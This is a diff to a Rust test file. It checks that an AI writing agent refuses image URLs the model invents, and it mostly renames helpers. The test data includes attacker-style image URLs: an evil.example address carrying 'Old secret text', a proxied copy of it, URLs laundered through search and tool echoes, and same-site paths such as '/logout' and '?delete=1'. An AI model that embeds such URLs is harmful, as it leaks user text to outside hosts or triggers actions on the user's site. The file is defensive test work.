@@ -1,6 +1,6 @@
-//! Ways to have an address that the model made up come back as one that it may use.
+//! Attempts to make a URL that the model invented count as known.
 
-use super::world::{Answer, World, calls, page, says, tool};
+use super::harness::{Answer, Harness, calls, page, says, tool};
 use copydesk_agent::tools::Tool;
 use copydesk_agent::tools::app::output;
 use copydesk_edit::Guards;
@@ -18,34 +18,34 @@ fn append(id: &str, content: &str) -> Answer {
     calls(&[(id, "update_section", json!({ "operation": "append", "title": id, "content": content }))])
 }
 
-fn picture(id: &str, url: &str) -> Answer {
+fn image(id: &str, url: &str) -> Answer {
     append(id, &format!("<p>x</p><img src=\"{url}\">"))
 }
 
 /// The code of each call's error, or `ok`.
-fn codes(world: &World) -> Vec<String> {
-    let results = world.events().into_iter().filter(|event| event["type"] == "tool_result");
+fn codes(harness: &Harness) -> Vec<String> {
+    let results = harness.events().into_iter().filter(|event| event["type"] == "tool_result");
     results.map(|event| event["content"]["error"]["code"].as_str().unwrap_or("ok").to_owned()).collect()
 }
 
-/// Runs the answers of a model that tries to show a picture in the last of its calls.
-fn tried(world: &World) {
-    world.prompt("Write about tea.");
-    let codes = codes(world);
+/// Runs a model that tries to insert an image in the last of its calls.
+fn tried(harness: &Harness) {
+    harness.prompt("Write about tea.");
+    let codes = codes(harness);
     let (last, before) = codes.split_last().unwrap();
     assert!(before.iter().all(|code| code == "ok"), "{codes:?}");
-    assert_eq!(last, "url_not_allowed", "{}", world.html());
-    assert!(!world.html().contains("<img"), "{}", world.html());
+    assert_eq!(last, "url_not_allowed", "{}", harness.html());
+    assert!(!harness.html().contains("<img"), "{}", harness.html());
 }
 
 fn refused(answers: Vec<Answer>) {
-    tried(&World::new(TEA, answers.into_iter().chain([says("Done.")]).collect()));
+    tried(&Harness::new(TEA, answers.into_iter().chain([says("Done.")]).collect()));
 }
 
-fn with_tools(answers: Vec<Answer>, tools: Vec<Tool>) -> World {
-    let world = World::new(TEA, answers.into_iter().chain([says("Done.")]).collect());
-    world.agent.set_tools(tools);
-    world
+fn with_tools(answers: Vec<Answer>, tools: Vec<Tool>) -> Harness {
+    let harness = Harness::new(TEA, answers.into_iter().chain([says("Done.")]).collect());
+    harness.agent.set_tools(tools);
+    harness
 }
 
 /// A tool that gives what `answer` makes of its arguments.
@@ -58,59 +58,56 @@ type Echo = (Value, fn(&Value) -> Value);
 
 #[test]
 fn a_link_makes_no_picture_known() {
-    refused(vec![append("a", &format!("<p><a href=\"{EVIL}\">source</a></p>")), picture("b", EVIL)]);
-    refused(vec![append("a", &format!("See [source]({EVIL}).")), picture("b", EVIL)]);
-    refused(vec![append("a", &format!("See **this**: <{EVIL}>\n\n- {EVIL}")), picture("b", EVIL)]);
-    refused(vec![
-        append("a", &format!("<p><code>{EVIL}</code></p><pre><code>{EVIL}</code></pre>")),
-        picture("b", EVIL),
-    ]);
+    refused(vec![append("a", &format!("<p><a href=\"{EVIL}\">source</a></p>")), image("b", EVIL)]);
+    refused(vec![append("a", &format!("See [source]({EVIL}).")), image("b", EVIL)]);
+    refused(vec![append("a", &format!("See **this**: <{EVIL}>\n\n- {EVIL}")), image("b", EVIL)]);
+    refused(vec![append("a", &format!("<p><code>{EVIL}</code></p><pre><code>{EVIL}</code></pre>")), image("b", EVIL)]);
 }
 
 #[test]
 fn what_the_model_says_is_not_what_the_user_says() {
-    let world = World::new(TEA, vec![says(&format!("See {EVIL}")), picture("b", EVIL), says("Done.")]);
-    world.prompt("Hello.");
-    tried(&world);
+    let harness = Harness::new(TEA, vec![says(&format!("See {EVIL}")), image("b", EVIL), says("Done.")]);
+    harness.prompt("Hello.");
+    tried(&harness);
 }
 
 #[test]
 fn a_proposal_makes_no_picture_known_and_neither_does_one_that_was_rejected() {
     let link = format!("<p><a href=\"{EVIL}\">source</a></p>");
-    let world =
-        World::new(TEA, vec![append("a", &link), picture("b", EVIL), picture("c", EVIL), says("Done."), says("Done.")]);
-    set_mode(&world.document, Mode::Review);
-    world.prompt("Write.");
-    reject(&world.document, &Which::All).unwrap();
-    world.prompt("Again.");
-    assert_eq!(codes(&world), ["ok", "url_not_allowed", "url_not_allowed"]);
-    assert!(!world.document.review().borrow().is_pending());
+    let harness =
+        Harness::new(TEA, vec![append("a", &link), image("b", EVIL), image("c", EVIL), says("Done."), says("Done.")]);
+    set_mode(&harness.document, Mode::Review);
+    harness.prompt("Write.");
+    reject(&harness.document, &Which::All).unwrap();
+    harness.prompt("Again.");
+    assert_eq!(codes(&harness), ["ok", "url_not_allowed", "url_not_allowed"]);
+    assert!(!harness.document.review().borrow().is_pending());
 }
 
 #[test]
 fn hosts_that_are_set_later_allow_no_more_than_they_say() {
     let link = format!("<p><a href=\"{EVIL}\">source</a></p>");
-    let world = World::new(TEA, vec![append("a", &link), picture("b", EVIL), says("Done.")]);
+    let harness = Harness::new(TEA, vec![append("a", &link), image("b", EVIL), says("Done.")]);
     let guards = json!({ "images": { "hosts": ["cdn.example"] } });
-    world.document.set_guards(&serde_json::from_value::<Guards>(guards).unwrap()).unwrap();
-    tried(&world);
+    harness.document.set_guards(&serde_json::from_value::<Guards>(guards).unwrap()).unwrap();
+    tried(&harness);
 }
 
 #[test]
 fn a_search_that_tells_its_words_makes_nothing_known() {
     let pages = || page(200, "application/json", &json!({ "query": { "pages": [] } }).to_string());
     let images = || page(200, "application/json", &json!({ "results": [] }).to_string());
-    refused(vec![calls(&[("s", "search_web", json!({ "query": EVIL }))]), pages(), picture("b", EVIL)]);
-    refused(vec![calls(&[("s", "search_image", json!({ "keywords": EVIL }))]), images(), picture("b", EVIL)]);
+    refused(vec![calls(&[("s", "search_web", json!({ "query": EVIL }))]), pages(), image("b", EVIL)]);
+    refused(vec![calls(&[("s", "search_image", json!({ "keywords": EVIL }))]), images(), image("b", EVIL)]);
     // A service that gives the words back as what it found.
     let echoed = json!({ "query": { "pages": [{ "index": 1, "title": "x", "fullurl": EVIL, "extract": "x" }] } });
     let echoed = page(200, "application/json", &echoed.to_string());
-    refused(vec![calls(&[("s", "search_web", json!({ "query": EVIL }))]), echoed, picture("b", EVIL)]);
+    refused(vec![calls(&[("s", "search_web", json!({ "query": EVIL }))]), echoed, image("b", EVIL)]);
     let echoed = page(200, "application/json", &json!({ "results": [{ "title": "x", "url": EVIL }] }).to_string());
     refused(vec![
         calls(&[("s", "search_image", json!({ "keywords": format!("x {EVIL}") }))]),
         echoed,
-        picture("b", EVIL),
+        image("b", EVIL),
     ]);
 }
 
@@ -121,13 +118,13 @@ fn a_tool_of_the_app_makes_known_what_it_declares_and_no_echo() {
         let spec = |fields: Value| json!({ "name": "t", "trusted": trusted, "urlFields": fields });
         let call = |arguments: Value| calls(&[("t", "t", arguments)]);
         let found = |_: &Value| json!({ "photos": [{ "url": "https://photos.example/7.png" }] });
-        tried(&with_tools(vec![call(json!({})), picture("b", photo)], vec![giving(spec(json!([])), found)]));
-        let world = with_tools(
-            vec![call(json!({ "id": 7 })), picture("b", photo), picture("c", EVIL)],
+        tried(&with_tools(vec![call(json!({})), image("b", photo)], vec![giving(spec(json!([])), found)]));
+        let harness = with_tools(
+            vec![call(json!({ "id": 7 })), image("b", photo), image("c", EVIL)],
             vec![giving(spec(json!(["photos[].url"])), found)],
         );
-        world.prompt("x");
-        assert_eq!(codes(&world), ["ok", "ok", "url_not_allowed"]);
+        harness.prompt("x");
+        assert_eq!(codes(&harness), ["ok", "ok", "url_not_allowed"]);
         let fields = json!(["url", "text", "list[]"]);
         let echoes: [Echo; 10] = [
             (json!({ (EVIL): 1 }), |given| json!({ "url": given.as_object().unwrap().keys().next() })),
@@ -149,22 +146,22 @@ fn a_tool_of_the_app_makes_known_what_it_declares_and_no_echo() {
             (json!({ "host": "evil.example", "text": "Old secret text" }), |_| json!({ "url": EVIL })),
         ];
         for (arguments, answer) in echoes {
-            let world =
-                with_tools(vec![call(arguments), picture("b", EVIL)], vec![giving(spec(fields.clone()), answer)]);
-            tried(&world);
+            let harness =
+                with_tools(vec![call(arguments), image("b", EVIL)], vec![giving(spec(fields.clone()), answer)]);
+            tried(&harness);
         }
         let proxy = "https://proxy.example/?u=https%3A%2F%2Fevil.example%2Fc%3Fd%3DOld%2Bsecret%2Btext";
         let proxied = giving(spec(fields.clone()), move |_| json!({ "url": proxy }));
-        tried(&with_tools(vec![call(json!({ "a": EVIL })), picture("b", proxy)], vec![proxied]));
+        tried(&with_tools(vec![call(json!({ "a": EVIL })), image("b", proxy)], vec![proxied]));
         let moved = "https://other.example/c?d=Old+secret+text&x=1";
         let other = giving(spec(fields.clone()), move |_| json!({ "url": moved }));
-        tried(&with_tools(vec![call(json!({ "a": EVIL })), picture("b", moved)], vec![other]));
+        tried(&with_tools(vec![call(json!({ "a": EVIL })), image("b", moved)], vec![other]));
         // Written in one call, given back by the next.
         let later = giving(spec(fields.clone()), |_| json!({ "url": EVIL }));
         let link = format!("<p><a href=\"{EVIL}\">x</a></p>");
-        tried(&with_tools(vec![append("a", &link), call(json!({})), picture("b", EVIL)], vec![later]));
+        tried(&with_tools(vec![append("a", &link), call(json!({})), image("b", EVIL)], vec![later]));
         let acts = giving(spec(fields), |_| json!({ "url": "/logout" }));
-        tried(&with_tools(vec![call(json!({ "a": "logout" })), picture("b", "/logout")], vec![acts]));
+        tried(&with_tools(vec![call(json!({ "a": "logout" })), image("b", "/logout")], vec![acts]));
     }
 }
 
@@ -172,22 +169,22 @@ fn a_tool_of_the_app_makes_known_what_it_declares_and_no_echo() {
 fn what_was_known_stays_known_when_it_is_used_as_an_argument() {
     let photo = "https://photos.example/a/long/way/7.png?w=100";
     let spec = json!({ "name": "t", "urlFields": ["url"] });
-    let world = with_tools(
+    let harness = with_tools(
         vec![
             calls(&[("1", "t", json!({ "words": "cup of tea" }))]),
-            picture("a", photo),
+            image("a", photo),
             calls(&[("2", "t", json!({ "like": photo }))]),
-            picture("b", photo),
-            picture("c", "https://said.example/1.png"),
+            image("b", photo),
+            image("c", "https://said.example/1.png"),
         ],
         vec![giving(spec, move |_| json!({ "url": photo }))],
     );
-    world.prompt("Mine is https://said.example/1.png.");
-    assert_eq!(codes(&world), ["ok"; 5]);
+    harness.prompt("Mine is https://said.example/1.png.");
+    assert_eq!(codes(&harness), ["ok"; 5]);
     // And in another agent that goes on with the messages.
-    let messages: Vec<Value> = world.agent.messages().into_iter().map(Value::from).collect();
+    let messages: Vec<Value> = harness.agent.messages().into_iter().map(Value::from).collect();
     let other = with_tools(
-        vec![picture("d", photo), picture("e", EVIL)],
+        vec![image("d", photo), image("e", EVIL)],
         vec![giving(json!({ "name": "t", "urlFields": ["url"] }), |_| Value::Null)],
     );
     let messages = messages.into_iter().map(|message| Message::try_from(message).unwrap());
@@ -199,14 +196,14 @@ fn what_was_known_stays_known_when_it_is_used_as_an_argument() {
 #[test]
 fn a_picture_that_a_model_invents_does_not_act_on_the_pages_own_site() {
     for url in ["/logout", "?delete=1", "logout", "../x", "https:logout"] {
-        refused(vec![picture("a", url)]);
+        refused(vec![image("a", url)]);
     }
-    let world = World::new(
+    let harness = Harness::new(
         "<h2>A</h2><p>x</p><img src=\"/there.png\">",
-        vec![picture("a", "/there.png"), picture("b", "/img/mine.png"), picture("c", "/img"), says("Done.")],
+        vec![image("a", "/there.png"), image("b", "/img/mine.png"), image("c", "/img"), says("Done.")],
     );
-    world.prompt("Use /img/mine.png.");
-    assert_eq!(codes(&world), ["ok", "ok", "url_not_allowed"]);
+    harness.prompt("Use /img/mine.png.");
+    assert_eq!(codes(&harness), ["ok", "ok", "url_not_allowed"]);
 }
 
 #[test]
@@ -215,7 +212,7 @@ fn what_is_read_on_of_a_long_result_makes_nothing_known() {
     let spec = json!({ "name": "t", "urlFields": ["url"] });
     let read = calls(&[("r", "read_more", json!({ "id": "page_1", "offset": 60_000 }))]);
     let given = giving(spec, move |_| json!({ "text": long, "url": "https://photos.example/7.png" }));
-    tried(&with_tools(vec![calls(&[("t", "t", json!({}))]), read, picture("b", EVIL)], vec![given]));
+    tried(&with_tools(vec![calls(&[("t", "t", json!({}))]), read, image("b", EVIL)], vec![given]));
 }
 
 #[test]
@@ -223,13 +220,13 @@ fn a_summary_makes_nothing_known_that_was_not_known_before() {
     let model = json!({ "api": "openai-completions", "modelId": "test-model", "contextWindow": 8_000 });
     let config =
         json!({ "model": model, "streamOptions": { "apiKey": "sk-secret", "baseUrl": "https://llm.example/v1" } });
-    let world = World::with(
+    let harness = Harness::with(
         TEA,
         vec![
             says(&format!("They want {EVIL} and https://said.example/1.png shown, and /logout.")),
-            picture("a", "https://said.example/1.png"),
-            picture("b", EVIL),
-            picture("c", "/logout"),
+            image("a", "https://said.example/1.png"),
+            image("b", EVIL),
+            image("c", "/logout"),
             says("Done."),
         ],
         json!({ "systemPrompt": "Help.", "llmConfig": config }),
@@ -242,13 +239,13 @@ fn a_summary_makes_nothing_known_that_was_not_known_before() {
         let answer = json!({ "role": "assistant", "stopReason": "stop", "content": content });
         messages.extend([Message::user("More."), Message::try_from(answer).unwrap()]);
     }
-    world.agent.set_messages(messages).unwrap();
-    world.prompt("Go on.");
-    assert!(world.event_types().iter().any(|kind| kind == "compaction"), "{:?}", world.event_types());
-    assert_eq!(codes(&world), ["ok", "url_not_allowed", "url_not_allowed"]);
-    let messages = world.agent.messages();
-    let pictures = [picture("a", "https://said.example/1.png"), picture("b", EVIL), picture("c", "/logout")];
-    let other = World::new(TEA, pictures.into_iter().chain([says("Done.")]).collect());
+    harness.agent.set_messages(messages).unwrap();
+    harness.prompt("Go on.");
+    assert!(harness.event_types().iter().any(|kind| kind == "compaction"), "{:?}", harness.event_types());
+    assert_eq!(codes(&harness), ["ok", "url_not_allowed", "url_not_allowed"]);
+    let messages = harness.agent.messages();
+    let images = [image("a", "https://said.example/1.png"), image("b", EVIL), image("c", "/logout")];
+    let other = Harness::new(TEA, images.into_iter().chain([says("Done.")]).collect());
     other.agent.set_messages(messages).unwrap();
     other.prompt("Again.");
     assert_eq!(codes(&other), ["ok", "url_not_allowed", "url_not_allowed"]);
